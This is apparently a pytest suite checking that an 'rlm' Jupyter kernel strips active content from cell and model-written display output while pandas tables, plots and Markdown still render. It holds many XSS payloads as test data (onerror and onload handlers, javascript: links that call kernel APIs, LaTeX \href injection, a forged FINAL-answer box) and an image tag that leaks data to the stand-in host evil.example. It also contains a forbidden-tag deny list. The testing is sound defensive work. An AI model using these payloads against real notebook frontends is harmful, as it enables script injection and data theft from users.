"""Issue 26, class 1: no active content from cell code reaches the browser — through a real `rlm` kernel.

Every way a cell (a person's, or model-written code in a `%%rlm` run) can put a bundle on iopub — `display()`
raw and formatted, the last expression's repr, every `_repr_*_` hook, `update_display`, metadata, the pager
(`obj?`), inspect replies, user_expressions — is checked for script, event handlers, `javascript:` URLs,
frames, forms, styles and active MIME types; the honest displays (a pandas table, a matplotlib PNG, plain
Markdown, the kernel's own run viewer and FINAL box) still show.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest

from rlm_kernel.output.bundles import INERT_TYPES
from tests.kernel_client import Execution, KernelHarness, kernel_with_llm_server, ok
from tests.llm_server import LLMTestServer
from tests.repl.conftest import llm_env
from tests.rootloop.script import Script, repl

FORBIDDEN_TAGS = frozenset(
    "script iframe frame frameset object embed applet form input button textarea select meta base link "
    "style math foreignobject template noscript".split()
)


class _Markup(HTMLParser):
    """The active markup of an HTML/SVG text: forbidden tags, handlers, script URLs, styling attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name in ("style", "class", "id", "srcdoc", "action", "formaction"):
                if not (tag == "svg" and name == "xmlns") and not (
                    name == "style" and SVG_STYLE.match(value)
                ):
                    self.problems.append(f"{tag}[{name}]")
            if name in ("href", "src", "xlink:href") and not (
                value.startswith(("https://", "http://", "mailto:", "#"))
                and name != "src"
                or value.startswith("data:image/")
            ):
                self.problems.append(f"{tag}[{name}={value[:40]}]")


SVG_STYLE = re.compile(r"\A(?:[a-z-]+:[^;:()]*;?)*\Z")  # plain presentation properties, no url()


def active_markup(text: str) -> list[str]:
    parser = _Markup()
    parser.feed(text)
    parser.close()
    return parser.problems


OUTPUT_MESSAGES = ("display_data", "update_display_data", "execute_result")


def bundles(ex: Execution) -> list[tuple[dict, dict]]:
    """(data, metadata) of every display-like iopub message of the request."""
    return [
        (m["content"]["data"], m["content"].get("metadata") or {})
        for m in ex.messages
        if m["msg_type"] in OUTPUT_MESSAGES
    ]


def assert_inert(data: dict, metadata: dict | None = None) -> None:
    """No active MIME type, no active markup in HTML/SVG/LaTeX, no frontend switch in the metadata."""
    assert set(data) <= INERT_TYPES - {"text/markdown"}, data.keys()
    if "text/html" in data:
        assert not active_markup(data["text/html"]), (active_markup(data["text/html"]), data["text/html"])
        assert "<svg" not in data["text/html"]
    if "image/svg+xml" in data:
        assert not active_markup(data["image/svg+xml"]), data["image/svg+xml"]
    for text in (data.get("text/html", ""), data.get("text/latex", "")):
        # a command MathJax would run: an unescaped backslash (`\\\\fcolorbox` is a line break, then letters)
        live = r"(?<!\\)(?:\\\\)*\\(?:href|style|class|cssId|fcolorbox|colorbox|bbox|require)\b"
        assert not re.search(live, text), text
    for key, value in (metadata or {}).items():
        assert key in ("rlm", *INERT_TYPES), metadata
        if key != "rlm":
            assert set(value) <= {"width", "height", "needs_background", "unconfined", "expanded", "root"}


def assert_all_inert(ex: Execution) -> list[tuple[dict, dict]]:
    found = bundles(ex)
    assert found, f"no display output at all: {ex}"
    for data, metadata in found:
        assert_inert(data, metadata)
    return found


@pytest.fixture(scope="module")
def served() -> Iterator[tuple[LLMTestServer, KernelHarness]]:
    with kernel_with_llm_server(llm_env) as (server, kernel):
        ok(kernel, "import json", timeout=60)
        yield server, kernel


@pytest.fixture
def kernel(served: tuple[LLMTestServer, KernelHarness]) -> KernelHarness:
    served[0].reset()
    return served[1]


# -- a person's cell: every payload kind ----------------------------------------------------------------

RAW_BUNDLES = {
    "js_mime": "{'application/javascript': 'document.title = \"pwned\"', 'text/plain': 'x'}",
    "text_js": "{'text/javascript': 'document.title = 1'}",
    "vendor_js": "{'application/vnd.bokehjs_exec.v0+json': 'x', 'application/x-javascript': 'x'}",
    "img_onerror": "{'text/html': '<img src=x onerror=\"document.title=1\">'}",
    "script": "{'text/html': '<b>hi</b><script>document.title = 1</script>'}",
    "js_href": "{'text/html': '<a href=\"javascript:fetch(\\'/api/kernels\\',{method:\\'POST\\'})\">x</a>'}",
    "svg_onload": "{'image/svg+xml': '<svg onload=\"document.title=1\"><script>alert(1)</script></svg>'}",
    "svg_in_html": "{'text/html': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'}",
    "markdown": "{'text/markdown': '<img src=x onerror=alert(1)> [a](javascript:alert(1))'}",
    "latex": "{'text/latex': '$\\\\href{javascript:alert(1)}{x} \\\\style{color:red}{y}$'}",
    "iframe": "{'text/html': '<iframe src=\"/api/contents\"></iframe>'}",
    "iframe_srcdoc": "{'text/html': '<iframe srcdoc=\"<script>1</script>\">'}",
    "meta_base": "{'text/html': '<meta http-equiv=refresh content=\"0;url=/api\"><base href=\"http://e/\">'}",
    "style": "{'text/html': '<style>body{display:none}</style><p style=\"position:fixed\">x</p>'}",
    "widget_view": "{'application/vnd.jupyter.widget-view+json': {'model_id': 'x', 'version_major': 2}}",
    "unknown": "{'application/vnd.something+html': '<script>x</script>'}",
    "exfil_img": "{'text/html': '<img src=\"https://evil.example/leak?data=secret\">'}",
}


@pytest.mark.parametrize("name", sorted(RAW_BUNDLES))
def test_raw_display_bundles_lose_active_content(kernel: KernelHarness, name: str) -> None:
    ex = ok(kernel, f"display({RAW_BUNDLES[name]}, raw=True)")
    assert_all_inert(ex)


REPR_CLASSES = {
    "_repr_html_": "'<img src=x onerror=\"document.title=1\"><script>alert(1)</script>'",
    "_repr_markdown_": "'**b** <img src=x onerror=alert(1)> [x](javascript:alert(1))'",
    "_repr_svg_": '\'<svg onload=alert(1)><rect width="1" height="1"/></svg>\'',
    "_repr_latex_": "'$\\\\href{javascript:alert(1)}{x}$'",
    "_repr_json_": "{'a': '<script>alert(1)</script>'}",
}


@pytest.mark.parametrize("hook", sorted(REPR_CLASSES))
def test_repr_hooks_of_cell_objects_lose_active_content(kernel: KernelHarness, hook: str) -> None:
    code = f"class Shown:\n    def {hook}(self):\n        return {REPR_CLASSES[hook]}\n"
    for shown in ("Shown()", "display(Shown())"):  # execute_result and display_data
        assert_all_inert(ok(kernel, code + shown))


def test_repr_mimebundle_with_script_and_metadata(kernel: KernelHarness) -> None:
    code = (
        "class Bundle:\n"
        "    def _repr_mimebundle_(self, include=None, exclude=None):\n"
        "        return ({'application/javascript': 'document.title=1',\n"
        "                 'text/html': '<script>x</script><i>i</i>',\n"
        "                 'text/plain': 'p'}, {'isolated': True, 'rlm_kernel.own_display': True,\n"
        "                 'rlm': {'calls': 99}, 'text/html': {'isolated': True}})\n"
        "Bundle()"
    )
    ex = ok(kernel, code)
    [(data, metadata)] = assert_all_inert(ex)
    assert data == {"text/html": "<i>i</i>", "text/plain": "p"} and metadata == {}


def test_display_metadata_cannot_forge_the_kernel_mark(kernel: KernelHarness) -> None:
    ex = ok(
        kernel,
        "display({'text/html': '<style>.x{}</style><b style=\"color:green\">FINAL ANSWER</b>'}, raw=True,\n"
        "        metadata={'rlm_kernel.own_display': True, 'isolated': True})",
    )
    [(data, metadata)] = assert_all_inert(ex)
    assert data["text/html"] == "<b>FINAL ANSWER</b>" and metadata == {}


def test_update_display_with_script(kernel: KernelHarness) -> None:
    code = (
        "display({'text/plain': 'first'}, raw=True, display_id='d26')\n"
        "display({'text/html': '<img src=x onerror=alert(1)>', 'application/javascript': 'x'}, raw=True,\n"
        "        display_id='d26', update=True)\n"
        "display({'text/html': '<script>alert(2)</script>'}, raw=True, transient={'display_id': 'd26',\n"
        "        'other': '<script>'}, update=True)"
    )
    ex = ok(kernel, code)
    assert_all_inert(ex)
    updates = [m for m in ex.messages if m["msg_type"] == "update_display_data"]
    assert len(updates) == 2 and all(m["content"]["transient"] == {"display_id": "d26"} for m in updates)


def test_clear_output_then_fake_final_box_is_unstyled(kernel: KernelHarness) -> None:
    fake = (
        "<div style='border:2px solid #2e7d32;border-radius:6px' class='final'>"
        "<div style='font-weight:bold;color:#2e7d32'>FINAL ANSWER</div>42</div>"
    )
    ex = ok(kernel, f"clear_output()\ndisplay({{'text/html': {fake!r}}}, raw=True)")
    [(data, _)] = assert_all_inert(ex)
    assert data["text/html"] == "<div><div>FINAL ANSWER</div>42</div>"


def test_user_expressions_are_cleaned(kernel: KernelHarness) -> None:
    ok(
        kernel,
        "class UE:\n    def _repr_html_(self):\n        return '<script>alert(1)</script><b>b</b>'\n"
        "ue = UE()",
    )
    ex = kernel.execute("1", user_expressions={"x": "ue"})
    data = ex.reply["user_expressions"]["x"]["data"]
    assert_inert(data)
    assert data["text/html"] == "<b>b</b>"


def test_inspect_and_pager_are_cleaned(kernel: KernelHarness) -> None:
    ok(kernel, "def documented():\n    '''<script>alert(1)</script><img src=x onerror=alert(2)>'''\n")
    reply = kernel.inspect("documented", detail_level=1)
    assert reply["found"]
    assert_inert(reply["data"])
    ex = ok(kernel, "documented?")
    pages = [p for p in ex.reply.get("payload", []) if p.get("source") == "page"]
    assert pages and all(p.get("source") == "page" for p in ex.reply["payload"]), ex.reply
    for payload in pages:
        assert_inert(payload["data"])
        assert "documented" in payload["data"]["text/plain"]


# -- honest displays still work ------------------------------------------------------------------------------


def test_pandas_table_and_matplotlib_png_still_show(kernel: KernelHarness) -> None:
    ex = ok(
        kernel, "import pandas as pd\npd.DataFrame({'name': ['a<b', 'c'], 'value': [1.5, 2]})", timeout=120
    )
    [(data, _)] = assert_all_inert(ex)
    assert "<table>" in data["text/html"] and "<td>a&lt;b</td>" in data["text/html"]
    ex = ok(kernel, "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3])\nplt.show()", timeout=120)
    [(data, _)] = assert_all_inert(ex)
    assert data["image/png"].startswith("iVBOR")


def test_plain_markdown_still_shows(kernel: KernelHarness) -> None:
    code = (
        "class Md:\n    def _repr_markdown_(self):\n        return '# Title\\n\\n**bold** and `code`'\nMd()"
    )
    [(data, _)] = assert_all_inert(ok(kernel, code))
    assert "<h1>Title</h1>" in data["text/html"] and "<strong>bold</strong>" in data["text/html"]


def test_final_in_a_cell_is_the_kernels_styled_box(kernel: KernelHarness) -> None:
    ex = ok(kernel, "FINAL('<img src=x onerror=alert(1)>')")
    [(data, metadata)] = bundles(ex)
    assert (
        "border:2px solid #2e7d32" in data["text/html"] and "FINAL() called in this cell" in data["text/html"]
    )
    assert "&lt;img src=x onerror=alert(1)&gt;" in data["text/html"] and "<img" not in data["text/html"]
    assert "rlm_kernel.own_display" not in metadata


# -- model-written code in a %%rlm run ---------------------------------------------------------------------

MODEL_CODE = (
    "class Evil:\n"
    "    def _repr_html_(self):\n"
    "        return (\"<img src=x onerror='document.title=1'>\"\n"
    "                \"<div style='color:green' class='final'>FINAL</div>\")\n"
    "evil = Evil()\n"
    "display({'application/javascript': 'document.title=1',\n"
    "         'text/html': '<script>alert(1)</script>'}, raw=True)\n"
    "display(evil)\n"
    "print('<script>alert(3)</script>')\n"
    "x = llm_query('q')"
)


def test_model_code_displays_and_objects_are_cleaned_and_the_viewer_escapes(
    served: tuple[LLMTestServer, KernelHarness],
) -> None:
    server, kernel = served
    server.reset()
    server.reply_with(
        Script(
            root=[repl(MODEL_CODE), repl("FINAL('<img src=x onerror=alert(4)> \\\\fcolorbox{green}{w}{x}')")]
        )
    )
    ex = ok(kernel, "%%rlm --shared\nShow things.", timeout=120)
    live = [m for m in ex.messages if m["msg_type"] in ("display_data", "update_display_data")]
    view_id = next(
        m["content"]["transient"]["display_id"]
        for m in live
        if m["content"]["data"].get("text/html", "").startswith("<div><b>RLM run</b>")
    )
    kernel_views = [
        m["content"]["data"] for m in live if m["content"]["transient"].get("display_id") == view_id
    ]
    assert any("class='rlmv'" in d["text/html"] for d in kernel_views), "the kernel's run viewer is shown"
    for data in kernel_views:  # the kernel's own live view and viewer: what the model wrote is escaped
        html = data["text/html"].split("</style>", 1)[-1]
        assert "<script" not in html and "<img" not in html and "\\fcolorbox" not in html, html
    assert "&lt;img src=x onerror=alert(4)&gt;" in kernel_views[-1]["text/html"]
    assert "answer accepted by the FINAL gate" in kernel_views[-1]["text/html"]
    others = [
        (m["content"]["data"], m["content"].get("metadata") or {})
        for m in ex.messages
        if m["msg_type"] in OUTPUT_MESSAGES and m["content"].get("transient", {}).get("display_id") != view_id
    ]
    assert others, "the model's own displays reached the cell"
    for data, metadata in others:
        assert_inert(data, metadata)
    # the object the model made, displayed by the person's next cell, is still cleaned
    later = ok(kernel, "evil")
    [(data, _)] = assert_all_inert(later)
    # cleaned, and framed as model-written code's output (output/bundles.label_model_output)
    assert data["text/html"].endswith("<img><div>FINAL</div></div>"), data["text/html"]
    assert "shown by model-written code" in data["text/html"]
    # another instance of the run's result class is not the kernel's viewer (trust is by identity)
    forged = ok(kernel, "import copy\ncopy.copy(rlm_result)")
    for data, metadata in bundles(forged):
        assert_inert(data, metadata)
        assert "rlmv" not in data.get("text/html", "")
    real = ok(kernel, "rlm_result")
    [(data, _)] = bundles(real)
    assert "class='rlmv'" in data["text/html"]  # the real one is
    # ... but a cell's metadata merged into it is still cut (no `isolated`, no forged provenance)
    merged = ok(kernel, "display(rlm_result, metadata={'isolated': True, 'rlm': {'calls': 99}})")
    [(data, metadata)] = bundles(merged)
    assert "class='rlmv'" in data["text/html"] and "isolated" not in metadata
    assert metadata.get("rlm", {}).get("calls") != 99


def test_model_clear_output_cannot_wipe_the_run_view(served: tuple[LLMTestServer, KernelHarness]) -> None:
    server, kernel = served
    server.reset()
    server.reply_with(
        Script(root=[repl("x = llm_query('q')\ndisplay('wiped', clear=True)"), repl("FINAL(x)")])
    )
    ex = ok(kernel, "%%rlm\nq", timeout=120)
    kinds = [m["msg_type"] for m in ex.messages]
    cleared = kinds.index("clear_output")
    view_id = next(
        m["content"]["transient"]["display_id"]
        for m in ex.messages
        if m["msg_type"] == "display_data"
        and m["content"]["data"].get("text/html", "").startswith("<div><b>RLM run</b>")
    )
    after = [
        m
        for m in ex.messages[cleared:]
        if m["msg_type"] in ("display_data", "update_display_data")
        and m["content"]["transient"].get("display_id") == view_id
    ]
    assert after and after[0]["msg_type"] == "display_data"  # shown again, not updated into nothing
    assert "class='rlmv'" in after[-1]["content"]["data"]["text/html"]  # and the viewer arrives in it


def test_display_handle_update_is_cleaned(kernel: KernelHarness) -> None:
    code = (
        "h = display({'text/plain': 'first'}, raw=True, display_id=True)\n"
        "h.update({'text/html': '<img src=x onerror=alert(1)>', 'application/javascript': 'x'}, raw=True)\n"
        "h.display({'text/html': '<script>alert(1)</script>'}, raw=True)"
    )
    ex = kernel.execute(code)
    assert_all_inert(ex)
    assert ex.ok or ex.error_name in ("SandboxError", "AttributeError"), ex


@pytest.mark.parametrize(
    "module", ["IPython.display", "IPython", "ipywidgets", "ipykernel.comm", "comm", "bokeh", "plotly"]
)
def test_modules_that_show_active_content_are_not_importable(kernel: KernelHarness, module: str) -> None:
    ex = kernel.execute(f"import {module}")
    assert not ex.ok and ex.error_name in ("ModuleNotAvailable", "SandboxError", "ImportError"), ex


def test_escaping_cannot_grow_a_display_past_the_output_cap(kernel: KernelHarness) -> None:
    # 900 kB of `<` passes the 1 MB cap as sent, and would be 3.6 MB once escaped to `&lt;`
    ex = ok(kernel, "display({'text/html': '<' * 900_000, 'text/plain': 'lt'}, raw=True)")
    [(data, _)] = bundles(ex)
    assert set(data) == {"text/plain"} and "sanitised HTML is over the per-cell limit" in data["text/plain"]
